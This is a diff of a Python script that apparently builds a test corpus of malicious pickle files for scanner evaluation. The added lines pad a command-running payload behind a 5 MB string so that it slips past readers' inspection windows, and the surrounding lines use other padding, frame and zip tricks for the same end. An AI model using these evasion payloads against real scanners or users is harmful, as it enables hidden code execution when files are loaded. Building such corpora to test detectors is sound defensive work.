@@ -582,6 +582,8 @@ def round_2026(evil):
     attack("r26-none-pop-prefix.pkl", P(2).raw(b"N0" * 60000).call(*unlisted, CMD).stop().bytes(), f"{src}: 120 KB of NONE/POP before the payload")
     attack("r26-mark-prefix.p0.pkl", b"(" * 70000 + b"1" + simple(*unlisted, CMD, proto=0), f"{src}: 70 000 MARKs (and POP_MARK) before a protocol 0 payload")
     attack("r26-unicode-prefix.p0.pkl", b"V" + b"\\u0041" * 20000 + b"\n0" + simple(*unlisted, CMD, proto=0), f"{src}: protocol 0 unicode string of 120 KB before the payload")
+    attack("r26-long-line-5mb.p0.pkl.gz", gzip.compress(b"S'" + b"A" * (5 << 20) + b"'\n0" + simple(*unlisted, CMD, proto=0), mtime=0),
+           f"{src}: a 5 MB protocol 0 string line before the payload, past every window a reader takes (gzip keeps the file small)")
     attack("r26-frame-overlong.pkl", b"\x80\x04\x95" + struct.pack("<Q", 1 << 40) + P(4).call(*unlisted, CMD).stop().bytes()[2:], f"{src}: FRAME announcing more bytes than the file holds")
     # Containers.
     attack("r26-torch-zip-duplicate.pt", zip_with_duplicate(P(2).raw(b"}").stop().bytes(), evil), f"{src}: two data.pkl members; zipfile loads the last")
